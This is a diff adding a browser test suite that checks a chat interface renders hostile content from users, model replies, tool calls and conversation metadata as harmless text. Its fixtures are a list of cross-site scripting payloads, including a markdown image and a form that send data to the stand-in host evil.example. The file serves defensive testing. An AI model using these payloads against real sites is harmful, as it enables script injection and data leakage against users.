@@ -1,0 +1,132 @@
+import type { Page } from "playwright-core";
+import { describe, expect, it } from "vitest";
+import {
+  answers,
+  ask,
+  endedAnswers,
+  expectQuiet,
+  hasBrowser,
+  openPage,
+  scriptedServer,
+  useBrowser,
+} from "../../support/page-in-browser.js";
+
+/** What runs, loads or leads away where it is taken for markup. */
+const ATTACKS = [
+  "<script>window.pwned = 1</script>",
+  '<img src="x" onerror="window.pwned = 1">',
+  '<svg onload="window.pwned = 1"></svg>',
+  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
+  '<a href="javascript:window.pwned = 1">a</a>',
+  "[click](javascript:window.pwned=1)",
+  "[click](JaVaScRiPt&#58;window.pwned=1)",
+  "[click](data:text/html,<script>opener.pwned=1</script>)",
+  "![leak](https://evil.example/?secret=1)",
+  '![x](x" onerror="window.pwned=1)',
+  '```"><img src=x onerror=window.pwned=1>\ncode </code><script>window.pwned=1</script>\n```',
+  "```js\n</span><img src=x onerror=window.pwned=1>\n```",
+  "$\\href{javascript:window.pwned=1}{x}$ $\\text{<img src=x onerror=window.pwned=1>}$",
+  '| a |\n| - |\n| <img src=x onerror="window.pwned=1"> |',
+  "<style>* { display: none }</style><form action=//evil.example><input name=q></form>",
+  '<math><mtext><style><img src=x onerror="window.pwned=1"></style></mtext></math>',
+].join("\n\n");
+
+async function expectHarmless(page: Page, within: string): Promise<void> {
+  const found = await page
+    .locator(within)
+    .first()
+    .evaluate((element) => ({
+      active: [
+        ...element.querySelectorAll(
+          "script, iframe, object, embed, style, form[action], [src], [srcdoc], [style]:not(textarea)",
+        ),
+      ].map(({ outerHTML }) => outerHTML),
+      handlers: [...element.querySelectorAll("*")].flatMap(({ attributes }) =>
+        [...attributes].map(({ name }) => name).filter((name) => name.startsWith("on")),
+      ),
+      links: [...element.querySelectorAll("a[href]")].map((link) => link.getAttribute("href")),
+    }));
+  expect(found.active).toEqual([]);
+  expect(found.handlers).toEqual([]);
+  for (const link of found.links) expect(link).toMatch(/^(?:https?:\/\/|#\/)/);
+  expect(await page.evaluate("window.pwned")).toBeUndefined();
+}
+
+describe.skipIf(!hasBrowser)("hostile texts", () => {
+  useBrowser();
+
+  it("of a model and of a user are texts", async () => {
+    const { url } = await scriptedServer(() => ({ parts: [{ reasoning: ATTACKS }, ATTACKS] }));
+    const opened = await openPage(url);
+    const { page } = opened;
+    await ask(page, ATTACKS);
+    await endedAnswers(page);
+    await page.getByText("Thoughts").click();
+    // What prints formulas and colours code is loaded when it is needed.
+    await page.locator(".answer math").first().waitFor();
+    await page
+      .locator(".answer .hljs-tag, .answer .hljs-name, .answer .hljs-string")
+      .first()
+      .waitFor({ state: "attached" })
+      .catch(() => undefined);
+    await expectHarmless(page, ".thread");
+    await expectHarmless(page, ".conversation-list");
+    expect(await page.locator(".thread").innerText()).toContain(
+      "<script>window.pwned = 1</script>",
+    );
+    for (const link of await page.locator(".thread a[href^=http]").all()) {
+      expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
+    }
+    expectQuiet(opened);
+  });
+
+  it("that come in pieces are harmless at every moment", async () => {
+    const { url } = await scriptedServer(() => ({ parts: ATTACKS.match(/[\s\S]{1,9}/g) ?? [] }));
+    const opened = await openPage(url);
+    await ask(opened.page, "Go");
+    await endedAnswers(opened.page);
+    await expectHarmless(opened.page, ".thread");
+    expectQuiet(opened);
+  });
+
+  it("in calls of tools and their results are texts", async () => {
+    const call = { id: "call_1", name: "look", arguments: JSON.stringify({ a: ATTACKS }) };
+    const { url } = await scriptedServer(
+      answers({ parts: [{ call }], ending: "tool-calls" }, { parts: ["Done."] }),
+    );
+    const { page } = await openPage(url);
+    await page.getByRole("button", { name: "System text and sampling" }).click();
+    await page
+      .getByLabel("Tools, as JSON")
+      .fill('[{"type":"function","name":"look","parameters":{"type":"object"}}]');
+    await page.getByRole("button", { name: "Save" }).click();
+    await page.getByRole("status").getByText("Saved").waitFor();
+    await ask(page, "Look");
+    await page.getByLabel("What came of it").fill(ATTACKS);
+    await page.getByRole("button", { name: "Send the result" }).click();
+    await page.locator(".answer", { hasText: "Done." }).waitFor();
+    await expectHarmless(page, ".thread");
+  });
+
+  it("as titles and other metadata of somebody else's conversation are texts", async () => {
+    const { url } = await scriptedServer();
+    const metadata = { title: ATTACKS.slice(0, 500), model: '"><script>window.pwned=1</script>' };
+    const items = [
+      { role: "user", content: [{ type: "input_image", image_url: "https://evil.example/x.png" }] },
+    ];
+    const created = await fetch(`${url}/v1/conversations`, {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: JSON.stringify({ metadata, items }),
+    });
+    const { id } = (await created.json()) as { readonly id: string };
+    const opened = await openPage(url);
+    await opened.page.goto(`${url}/#/chat/${id}`);
+    await opened.page.locator(".question").waitFor();
+    await expectHarmless(opened.page, ".chat-view");
+    expect(await opened.page.locator(".question").innerText()).toContain(
+      "https://evil.example/x.png",
+    );
+    expectQuiet(opened);
+  });
+});
